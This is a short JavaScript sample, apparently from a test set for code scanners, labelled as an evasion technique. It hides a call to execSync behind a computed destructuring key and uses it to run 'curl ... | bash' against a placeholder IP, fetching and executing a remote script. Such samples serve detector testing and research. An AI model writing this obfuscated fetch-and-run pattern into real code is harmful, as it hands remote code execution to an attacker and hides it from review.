// evasion: method picked by a computed key in a destructuring pattern
// grade: medium; does: shell
const which = ['exec', 'Sync'].join('');
const { [which]: run } = require('child_process');

run('curl -s http://203.0.113.7/a | bash');
